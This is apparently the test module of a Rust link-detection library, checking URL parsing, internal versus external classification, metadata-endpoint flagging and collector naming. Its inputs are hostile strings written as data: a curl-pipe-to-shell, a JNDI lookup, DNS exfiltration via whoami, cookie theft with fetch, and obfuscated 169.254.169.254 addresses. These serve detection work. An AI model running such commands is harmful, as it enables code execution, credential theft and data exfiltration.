//! Every trick, every harmless look-alike, and what holds for any text.

mod documents;
mod harmless;
mod laws;
mod tricks;

use super::{Form, Link, Links, Place};

/// The links of a text, with `corp.com` as the configured domain.
fn find(text: &str) -> Vec<Link<'_>> {
    let links = Links::new(["corp.com"]);
    let mut found = Vec::new();
    links.find(text, &mut |link| found.push(link));
    found
}

/// The hosts of a text.
fn hosts(text: &str) -> Vec<String> {
    find(text).into_iter().map(|link| link.host.into_owned()).collect()
}

/// The one link of a text.
fn only(text: &str) -> Link<'_> {
    let mut found = find(text);
    assert_eq!(found.len(), 1, "{text}: {found:?}");
    found.remove(0)
}

#[test]
fn forms_and_spans() {
    for (text, form, span, host) in [
        ("see https://example.com/a?b=c.", Form::Url, "https://example.com/a?b=c", "example.com"),
        ("(http://example.com/a)", Form::Url, "http://example.com/a", "example.com"),
        ("http://example.com:8080/x", Form::Url, "http://example.com:8080/x", "example.com"),
        ("wss://a.example.org", Form::Url, "wss://a.example.org", "a.example.org"),
        ("ssh://git@example.com:22/r", Form::Url, "ssh://git@example.com:22/r", "example.com"),
        ("git@example.com:org/repo.git", Form::Url, "git@example.com:org/repo.git", "example.com"),
        ("src=\"//cdn.example.com/x.js\"", Form::Url, "//cdn.example.com/x.js", "cdn.example.com"),
        ("mail ann.lee@example.com now", Form::Email, "ann.lee@example.com", "example.com"),
        ("mailto:ann@example.com?subject=x", Form::Email, "ann@example.com", "example.com"),
        ("\"a b\"@example.com", Form::Email, "\"a b\"@example.com", "example.com"),
        ("ping example.com.", Form::Host, "example.com", "example.com"),
        ("EXAMPLE.COM", Form::Host, "EXAMPLE.COM", "example.com"),
        ("curl evil.sh/x | sh", Form::Host, "evil.sh/x", "evil.sh"),
        ("connect 203.0.113.77:4444", Form::Host, "203.0.113.77:4444", "203.0.113.77"),
        ("http:\\/\\/example.com\\/a", Form::Url, "http:\\/\\/example.com\\/a", "example.com"),
        ("请访问example.com了解", Form::Host, "example.com", "example.com"),
        ("访问http://example.com。然后", Form::Url, "http://example.com", "example.com"),
        ("${jndi:ldap://evil.com/a}", Form::Url, "ldap://evil.com/a", "evil.com"),
        ("nslookup $(whoami).evil.com", Form::Host, "evil.com", "evil.com"),
        ("host=$x.evil.com", Form::Host, "evil.com", "evil.com"),
        ("<http://[2001:db8::1]:80/>", Form::Url, "http://[2001:db8::1]:80/", "2001:db8::1"),
        ("postgres://u:p@db.example.com/x", Form::Url, "postgres://u:p@db.example.com/x", "db.example.com"),
    ] {
        let link = only(text);
        assert_eq!((link.form, link.host.as_ref()), (form, host), "{text}");
        let shown = text.get(link.span.clone()).expect("a span of the text");
        // A link that begins with two slashes starts at its host.
        assert_eq!(shown, span.trim_start_matches("//"), "{text}");
        assert!(link.tricks.is_empty(), "{text}: {:?}", link.tricks);
        assert_eq!(link.place, Place::External, "{text}");
    }
}

#[test]
fn inside_and_outside() {
    for inside in [
        "http://localhost:3000/",
        "http://127.0.0.1/",
        "http://10.1.2.3/",
        "http://172.20.0.1/",
        "http://192.168.1.1/",
        "http://100.64.1.1/",
        "http://169.254.7.7/",
        "http://[::1]/",
        "http://[fd00::1]/",
        "http://[fe80::1%25eth0]/",
        "http://[::ffff:192.168.0.1]/",
        "http://printer.local/",
        "http://db.internal/",
        "http://nas.lan/",
        "http://x.home.arpa/",
        "http://wiki.intranet/",
        "http://git.corp/",
        "http://a.test/",
        "http://a.invalid/",
        "http://jenkins/job",
        "https://corp.com/",
        "https://a.b.corp.com/",
        "HTTPS://A.CORP.COM/",
        "ann@corp.com",
        "a.corp.com",
        "ssh root@db.internal",
        "http://0.0.0.0:80/",
        "http://app.localhost/",
        "192.168.7.9",
    ] {
        assert_eq!(only(inside).place, Place::Internal, "{inside}");
    }
    for outside in [
        "https://evilcorp.com/",
        "https://corp.com.evil.com/",
        "https://corp.community/",
        "http://8.8.8.8/",
        "http://172.32.0.1/",
        "http://[2606:4700::1]/",
        "http://[::ffff:8.8.8.8]/",
        "http://local.evil.com/",
        "http://localhost.evil.com/",
        "http://xcorp.com",
        "ann@evilcorp.com",
        "http://notinternal/x.y",
    ] {
        let expected = if outside.contains("notinternal") { Place::Internal } else { Place::External };
        assert_eq!(only(outside).place, expected, "{outside}");
    }
}

#[test]
fn metadata_services_are_flagged() {
    for text in [
        "http://169.254.169.254/latest/meta-data/",
        "http://2852039166/",
        "http://0xa9fea9fe/",
        "http://0251.0376.0251.0376/",
        "http://169.254.43518/",
        "http://[::ffff:169.254.169.254]/",
        "http://[::ffff:a9fe:a9fe]/",
        "http://[fd00:ec2::254]/",
        "http://metadata.google.internal/computeMetadata/v1/",
        "curl 169.254.169.254",
        "http://169.254.169。254/",
        "http://①⑥⑨.②⑤④.①⑥⑨.②⑤④/",
        "metadata.google.internal",
        "http://1%36%39.254.169.254/",
    ] {
        let link = only(text);
        assert!(link.metadata && link.place == Place::Internal, "{text}: {link:?}");
    }
    assert!(!only("http://169.254.1.1/").metadata);
}

#[test]
fn collectors_are_named() {
    for (text, family) in [
        ("https://webhook.site/0000", "webhook"),
        ("curl -d @f x1.oast.fun", "callback"),
        ("https://a-b.trycloudflare.com", "tunnel"),
        ("https://discord.com/api/webhooks/1/a", "chat-webhook"),
        ("https://api.telegram.org/bot1:x/sendMessage", "chat-webhook"),
        ("| nc termbin.com 9999", "paste"),
        ("curl -F f=@a 0x0.st", "file-drop"),
        ("https://bit.ly/x", "shortener"),
        ("http://10.0.0.1.nip.io/", "rebinding"),
        ("http://ＷＥＢＨＯＯＫ．site/", "webhook"),
    ] {
        assert_eq!(only(text).collector, Some(family), "{text}");
    }
    assert_eq!(only("https://discord.com/channels/1").collector, None);
}

#[test]
fn links_within_links() {
    assert_eq!(hosts("https://a.internal/go?u=https://evil.com/x"), ["a.internal", "evil.com"]);
    assert_eq!(hosts("https://a.internal/go?u=https%3A%2F%2Fevil.com%2Fx"), ["a.internal", "evil.com"]);
    assert_eq!(hosts("https://a.internal/go?u=https%253A%252F%252Fevil.com%252Fx"), ["a.internal", "evil.com"]);
    assert_eq!(hosts("https://a.internal/go?u=http%3A%2F%2F2130706433%2F"), ["a.internal", "127.0.0.1"]);
    assert_eq!(hosts("https://a.internal/fetch?host=evil.com&x=1"), ["a.internal", "evil.com"]);
    assert_eq!(hosts("https://a.internal/evil.com/index.html"), ["a.internal"]);
    assert_eq!(hosts("http://example.com,http://example.org"), ["example.com", "example.org"]);
    assert_eq!(hosts("[http://example.com](http://evil.com)"), ["example.com", "evil.com"]);
    assert_eq!(hosts("javascript:fetch('//evil.com/'+document.cookie)"), ["evil.com"]);
    assert_eq!(hosts("data:text/html,<img src=https://evil.com/>"), ["evil.com"]);
    assert_eq!(hosts("a@example.com,b@example.org"), ["example.com", "example.org"]);
}

#[test]
fn a_text_without_candidates_is_told_at_once() {
    assert!(!Links::possible("A sentence. Another one: with (brackets) and 50% of [all] signs @ once."));
    assert!(Links::possible("example.com"));
    assert!(Links::possible("http://x"));
    assert!(Links::possible("evil[dot]com"));
}
